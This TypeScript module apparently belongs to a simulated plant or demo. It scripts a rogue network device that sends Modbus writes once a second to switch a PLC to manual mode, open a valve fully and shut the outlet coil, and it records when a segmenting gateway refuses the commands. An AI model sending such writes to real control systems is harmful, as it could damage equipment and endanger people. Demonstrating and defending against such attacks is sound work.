/* A machine in the plant's network that has no business there: it takes the valve by hand and shuts the outlet. */
import { setTimeout as delay } from "node:timers/promises";
import { type Client, createMachine, exceptionOf, type Way } from "./machine.ts";
import { COIL_OUTLET, HOLDING } from "./plc.ts";

/** What an attack tells while it lasts. */
export interface AttackEvents {
  /** Right before a command: its place in the round. */
  onSent(command: number): void;
  /** A command was answered with exception 01, as a conduit gateway refuses it. */
  onRefused(): void;
}

const ILLEGAL_FUNCTION = 1;

/** The commands of one round: function codes 6, 6 and 5. */
const ROUND: readonly ((client: Client) => Promise<unknown>)[] = [
  (client) => client.writeRegister(HOLDING.mode, 1),
  (client) => client.writeRegister(HOLDING.manualValvePermille, 1000),
  (client) => client.writeCoil(COIL_OUTLET, false),
];

/** One round a second, `rounds` times. Never rejects. */
export async function attack(
  way: Way,
  rounds: number,
  signal: AbortSignal,
  { onSent, onRefused }: AttackEvents,
): Promise<void> {
  const machine = createMachine(way);
  const startMs = performance.now();
  for (let round = 0; round < rounds && !signal.aborted; round++) {
    const waitMs = startMs + round * 1000 - performance.now();
    if (waitMs > 0) await delay(waitMs, undefined, { signal }).catch(() => undefined);
    for (const [command, send] of ROUND.entries()) {
      if (signal.aborted) break;
      onSent(command);
      await machine.ask(send).catch((error: unknown) => {
        if (exceptionOf(error) === ILLEGAL_FUNCTION) onRefused();
      });
    }
  }
  machine.stop();
}
